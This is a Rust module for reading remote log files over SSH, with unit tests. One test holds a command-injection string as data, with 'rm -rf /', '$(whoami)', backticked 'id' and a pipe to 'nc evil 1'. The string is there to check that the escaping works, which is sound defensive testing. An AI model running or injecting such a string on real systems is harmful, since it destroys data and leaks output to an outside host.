//! Remote files read over one SSH session.
//!
//! Full reads stream the file over SFTP. Tail reads run `wc -l` and
//! `tail -n` on the remote host so only the requested lines cross the wire.
//! Every argument handed to the remote shell goes through [`shell_words`].

use super::ssh::Ssh2Session;
use super::url::SshUrl;
use super::{FileInfo, Lines, ReaderLines, SshOptions};
use crate::error::SourceError;
use crate::watcher::{WatchSnapshot, WatchTarget};
use parking_lot::Mutex;
use std::fmt;
use std::io::{BufReader, Cursor, Read};
use std::sync::Arc;
use std::time::SystemTime;
use tracing::{debug, info};

/// Size and modification time reported by the remote side.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RemoteStat {
    pub size: u64,
    pub modified: Option<SystemTime>,
}

impl From<RemoteStat> for WatchSnapshot {
    fn from(stat: RemoteStat) -> Self {
        WatchSnapshot {
            size: stat.size,
            modified: stat.modified,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandOutput {
    pub stdout: Vec<u8>,
    pub exit_status: i32,
}

/// An authenticated connection able to stat, read and run commands.
pub trait RemoteSession: Send {
    fn stat(&self, path: &str) -> Result<RemoteStat, SourceError>;

    /// Run an already-escaped command line.
    fn exec(&self, command: &str) -> Result<CommandOutput, SourceError>;

    fn open_file(&self, path: &str) -> Result<Box<dyn Read + Send>, SourceError>;

    fn disconnect(&mut self);
}

pub type SharedSession = Arc<Mutex<Box<dyn RemoteSession>>>;

pub fn line_count_command(path: &str) -> String {
    shell_words::join(["wc", "-l", path])
}

pub fn tail_command(path: &str, lines: usize) -> String {
    let count = lines.to_string();
    shell_words::join(["tail", "-n", count.as_str(), path])
}

/// `tail -n +K`: everything from line `first` on.
pub fn from_line_command(path: &str, first: usize) -> String {
    let start = format!("+{first}");
    shell_words::join(["tail", "-n", start.as_str(), path])
}

pub fn last_byte_command(path: &str) -> String {
    shell_words::join(["tail", "-c", "1", path])
}

pub struct RemoteSource {
    url: SshUrl,
    tail: Option<usize>,
    buffer_size: usize,
    options: SshOptions,
    session: Option<SharedSession>,
}

impl fmt::Debug for RemoteSource {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("RemoteSource")
            .field("url", &self.url)
            .field("tail", &self.tail)
            .field("open", &self.is_open())
            .finish()
    }
}

impl RemoteSource {
    pub fn new(url: SshUrl, tail: Option<usize>, buffer_size: usize, options: SshOptions) -> Self {
        Self {
            url,
            tail,
            buffer_size: buffer_size.max(1),
            options,
            session: None,
        }
    }

    pub fn url(&self) -> &SshUrl {
        &self.url
    }

    pub fn tail(&self) -> Option<usize> {
        self.tail
    }

    pub fn is_open(&self) -> bool {
        self.session.is_some()
    }

    /// Connect, verify the host key, authenticate and check the file exists.
    pub fn open(&mut self) -> Result<(), SourceError> {
        if self.is_open() {
            return Ok(());
        }
        info!(host = %self.url.host(), port = self.url.port(), "connecting to remote source");
        let session = Ssh2Session::connect(&self.url, &self.options)?;
        self.attach(Box::new(session))
    }

    /// Adopt an established session. The session is disconnected again if
    /// the remote file cannot be stat'ed.
    pub fn attach(&mut self, mut session: Box<dyn RemoteSession>) -> Result<(), SourceError> {
        if let Err(e) = session.stat(self.url.path()) {
            session.disconnect();
            return Err(e);
        }
        self.session = Some(Arc::new(Mutex::new(session)));
        Ok(())
    }

    pub fn read_lines(&mut self) -> Result<Lines<'_>, SourceError> {
        let session = self.session()?;
        let name = self.url.file_name().to_string();

        match self.tail {
            None => {
                let size = session.lock().stat(self.url.path())?.size;
                let reader = session.lock().open_file(self.url.path())?;
                let reader = BufReader::with_capacity(self.buffer_size, reader.take(size));
                Ok(Box::new(ReaderLines::new(reader, name, 1)))
            }
            Some(0) => Ok(Box::new(std::iter::empty())),
            Some(n) => {
                let total = self.line_count(&session)?;
                let output = run(&session, "tail", &tail_command(self.url.path(), n))?;
                let count = count_lines(&output);
                let first = total.max(count) - count + 1;
                debug!(requested = n, received = count, first, "remote tail read");
                Ok(Box::new(ReaderLines::new(Cursor::new(output), name, first)))
            }
        }
    }

    pub fn read_lines_after(&mut self, after: usize) -> Result<Lines<'_>, SourceError> {
        let session = self.session()?;
        let name = self.url.file_name().to_string();
        let first = after + 1;
        let output = run(&session, "tail", &from_line_command(self.url.path(), first))?;
        debug!(first, bytes = output.len(), "remote follow read");
        Ok(Box::new(ReaderLines::new(Cursor::new(output), name, first)))
    }

    pub fn file_info(&mut self) -> Result<FileInfo, SourceError> {
        let session = self.session()?;
        let stat = session.lock().stat(self.url.path())?;
        let total_lines = self.line_count(&session)?;
        Ok(FileInfo {
            path: self.url.to_string(),
            size: stat.size,
            total_lines,
            modified: stat.modified,
        })
    }

    pub fn close(&mut self) {
        if let Some(session) = self.session.take() {
            session.lock().disconnect();
            debug!(host = %self.url.host(), "closed remote source");
        }
    }

    pub fn watch_target(&self) -> Result<WatchTarget, SourceError> {
        Ok(WatchTarget::Remote {
            session: self.session()?,
            path: self.url.path().to_string(),
            label: self.url.to_string(),
        })
    }

    fn session(&self) -> Result<SharedSession, SourceError> {
        self.session.clone().ok_or(SourceError::NotOpen)
    }

    /// Lines in the remote file, counting an unterminated final line.
    fn line_count(&self, session: &SharedSession) -> Result<usize, SourceError> {
        let path = self.url.path();
        let output = run(session, "wc", &line_count_command(path))?;
        let text = String::from_utf8_lossy(&output);
        let newlines: usize = text
            .split_whitespace()
            .next()
            .and_then(|n| n.parse().ok())
            .ok_or_else(|| SourceError::Protocol {
                command: "wc",
                detail: "line count missing from output".to_string(),
            })?;

        let last = run(session, "tail", &last_byte_command(path))?;
        let unterminated = matches!(last.last(), Some(&b) if b != b'\n');
        Ok(newlines + usize::from(unterminated))
    }
}

impl Drop for RemoteSource {
    fn drop(&mut self) {
        self.close();
    }
}

fn run(
    session: &SharedSession,
    command: &'static str,
    line: &str,
) -> Result<Vec<u8>, SourceError> {
    let output = session.lock().exec(line)?;
    if output.exit_status != 0 {
        return Err(SourceError::Protocol {
            command,
            detail: format!("exited with status {}", output.exit_status),
        });
    }
    Ok(output.stdout)
}

fn count_lines(bytes: &[u8]) -> usize {
    let newlines = bytes.iter().filter(|&&b| b == b'\n').count();
    let unterminated = matches!(bytes.last(), Some(&b) if b != b'\n');
    newlines + usize::from(unterminated)
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::source::LogLine;
    use std::collections::HashMap;
    use std::sync::atomic::{AtomicBool, Ordering};

    /// In-memory remote host that understands the commands this module sends.
    #[derive(Default, Clone)]
    pub(crate) struct FakeSession {
        pub files: Arc<Mutex<HashMap<String, Vec<u8>>>>,
        pub commands: Arc<Mutex<Vec<String>>>,
        pub disconnected: Arc<AtomicBool>,
    }

    impl FakeSession {
        pub fn with_file(path: &str, content: &[u8]) -> Self {
            let fake = FakeSession::default();
            fake.files.lock().insert(path.to_string(), content.to_vec());
            fake
        }

        fn file(&self, path: &str) -> Result<Vec<u8>, SourceError> {
            self.files.lock().get(path).cloned().ok_or_else(|| SourceError::NotFound {
                name: path.rsplit('/').next().unwrap_or(path).to_string(),
            })
        }
    }

    impl RemoteSession for FakeSession {
        fn stat(&self, path: &str) -> Result<RemoteStat, SourceError> {
            let data = self.file(path)?;
            Ok(RemoteStat {
                size: data.len() as u64,
                modified: None,
            })
        }

        fn exec(&self, command: &str) -> Result<CommandOutput, SourceError> {
            self.commands.lock().push(command.to_string());
            let args = shell_words::split(command).unwrap();
            let args: Vec<&str> = args.iter().map(String::as_str).collect();

            let stdout = match args.as_slice() {
                ["wc", "-l", path] => {
                    let data = self.file(path)?;
                    let n = data.iter().filter(|&&b| b == b'\n').count();
                    format!("{n} {path}\n").into_bytes()
                }
                ["tail", "-c", "1", path] => {
                    let data = self.file(path)?;
                    data.last().map(|&b| vec![b]).unwrap_or_default()
                }
                ["tail", "-n", n, path] if n.starts_with('+') => {
                    let first: usize = n[1..].parse().unwrap();
                    let data = self.file(path)?;
                    let mut start = 0;
                    for _ in 1..first {
                        match data[start..].iter().position(|&b| b == b'\n') {
                            Some(i) => start += i + 1,
                            None => {
                                start = data.len();
                                break;
                            }
                        }
                    }
                    data[start..].to_vec()
                }
                ["tail", "-n", n, path] => {
                    let n: usize = n.parse().unwrap();
                    let text = String::from_utf8(self.file(path)?).unwrap();
                    let lines: Vec<&str> = text.lines().collect();
                    let start = lines.len().saturating_sub(n);
                    let mut out = lines[start..].join("\n");
                    if text.ends_with('\n') && !out.is_empty() {
                        out.push('\n');
                    }
                    out.into_bytes()
                }
                _ => {
                    return Ok(CommandOutput {
                        stdout: Vec::new(),
                        exit_status: 127,
                    })
                }
            };

            Ok(CommandOutput {
                stdout,
                exit_status: 0,
            })
        }

        fn open_file(&self, path: &str) -> Result<Box<dyn Read + Send>, SourceError> {
            Ok(Box::new(Cursor::new(self.file(path)?)))
        }

        fn disconnect(&mut self) {
            self.disconnected.store(true, Ordering::SeqCst);
        }
    }

    pub(crate) fn numbered_log(lines: usize) -> Vec<u8> {
        (1..=lines)
            .map(|i| format!("2024-01-15 10:00:{:02} INFO event {i}\n", i % 60))
            .collect::<String>()
            .into_bytes()
    }

    fn remote(tail: Option<usize>, fake: &FakeSession) -> RemoteSource {
        let url = SshUrl::parse("user@example.com:/var/log/app.log").unwrap();
        let mut source = RemoteSource::new(url, tail, 8192, SshOptions::default());
        source.attach(Box::new(fake.clone())).unwrap();
        source
    }

    fn read_all(source: &mut RemoteSource) -> Vec<LogLine> {
        source.read_lines().unwrap().collect::<Result<_, _>>().unwrap()
    }

    #[test]
    fn test_tail_command_shape() {
        let fake = FakeSession::with_file("/var/log/app.log", &numbered_log(25));
        let mut source = remote(Some(10), &fake);

        let lines = read_all(&mut source);
        assert_eq!(lines.len(), 10);
        assert_eq!(lines[0].line_number(), 16);
        assert_eq!(lines[9].line_number(), 25);
        assert!(lines[9].content().ends_with("event 25"));

        let commands = fake.commands.lock();
        assert!(commands.iter().any(|c| c == "wc -l /var/log/app.log"));
        assert!(commands
            .iter()
            .any(|c| c.contains("tail -n 10") && c.contains("/var/log/app.log")));
    }

    #[test]
    fn test_commands_escape_metacharacters() {
        let hostile = "/var/log/app.log; rm -rf / $(whoami) `id` | nc evil 1 && echo 'x'";
        for command in [
            tail_command(hostile, 10),
            from_line_command(hostile, 6),
            line_count_command(hostile),
            last_byte_command(hostile),
        ] {
            let args = shell_words::split(&command).unwrap();
            assert_eq!(args.last().map(String::as_str), Some(hostile));
            assert!(args.len() <= 4);
        }

        let command = tail_command(hostile, 10);
        assert!(command.starts_with("tail -n 10 '"));
    }

    #[test]
    fn test_read_after_fetches_every_new_line() {
        let fake = FakeSession::with_file("/var/log/app.log", &numbered_log(5));
        let mut source = remote(Some(2), &fake);
        assert_eq!(read_all(&mut source).len(), 2);

        fake.files
            .lock()
            .insert("/var/log/app.log".to_string(), numbered_log(10));
        let lines: Vec<LogLine> = source
            .read_lines_after(5)
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        let numbers: Vec<usize> = lines.iter().map(LogLine::line_number).collect();
        assert_eq!(numbers, vec![6, 7, 8, 9, 10]);
        assert!(lines[0].content().ends_with("event 6"));
        assert!(fake
            .commands
            .lock()
            .iter()
            .any(|c| c == "tail -n +6 /var/log/app.log"));

        assert!(source.read_lines_after(10).unwrap().next().is_none());
    }

    #[test]
    fn test_full_read_and_small_tail() {
        let fake = FakeSession::with_file("/var/log/app.log", b"one\ntwo\nthree");
        let mut source = remote(None, &fake);
        let lines = read_all(&mut source);
        assert_eq!(lines.len(), 3);
        assert_eq!(lines[2].content(), "three");
        assert_eq!(lines[2].line_number(), 3);

        let mut source = remote(Some(2), &fake);
        let lines = read_all(&mut source);
        let contents: Vec<&str> = lines.iter().map(LogLine::content).collect();
        assert_eq!(contents, vec!["two", "three"]);
        assert_eq!(lines[0].line_number(), 2);

        let mut source = remote(Some(50), &fake);
        assert_eq!(read_all(&mut source)[0].line_number(), 1);

        let mut source = remote(Some(0), &fake);
        assert!(read_all(&mut source).is_empty());
    }

    #[test]
    fn test_file_info() {
        let fake = FakeSession::with_file("/var/log/app.log", &numbered_log(7));
        let mut source = remote(None, &fake);
        let info = source.file_info().unwrap();
        assert_eq!(info.total_lines, 7);
        assert_eq!(info.size, numbered_log(7).len() as u64);
        assert_eq!(info.path, "user@example.com:/var/log/app.log");
    }

    #[test]
    fn test_missing_file_names_only_the_file() {
        let fake = FakeSession::default();
        let url = SshUrl::parse("user@example.com:/srv/secret/dir/missing.log").unwrap();
        let mut source = RemoteSource::new(url, None, 8192, SshOptions::default());

        let err = source.attach(Box::new(fake.clone())).unwrap_err();
        let msg = err.to_string();
        assert!(msg.contains("missing.log"));
        assert!(!msg.contains("/srv/secret"));
        assert!(fake.disconnected.load(Ordering::SeqCst));
        assert!(!source.is_open());
    }

    #[test]
    fn test_close_disconnects() {
        let fake = FakeSession::with_file("/var/log/app.log", b"x\n");
        let mut source = remote(None, &fake);
        assert!(source.is_open());

        source.close();
        assert!(fake.disconnected.load(Ordering::SeqCst));
        assert!(matches!(source.read_lines(), Err(SourceError::NotOpen)));
    }

    #[test]
    fn test_failed_remote_command_is_protocol_error() {
        let fake = FakeSession::with_file("/var/log/app.log", b"x\n");
        let mut source = remote(Some(1), &fake);
        fake.files.lock().clear();
        assert!(source.read_lines().is_err());

        let session: SharedSession = Arc::new(Mutex::new(Box::new(fake)));
        let err = run(&session, "tail", "unknown-command").unwrap_err();
        assert!(matches!(err, SourceError::Protocol { command: "tail", .. }));
    }
}
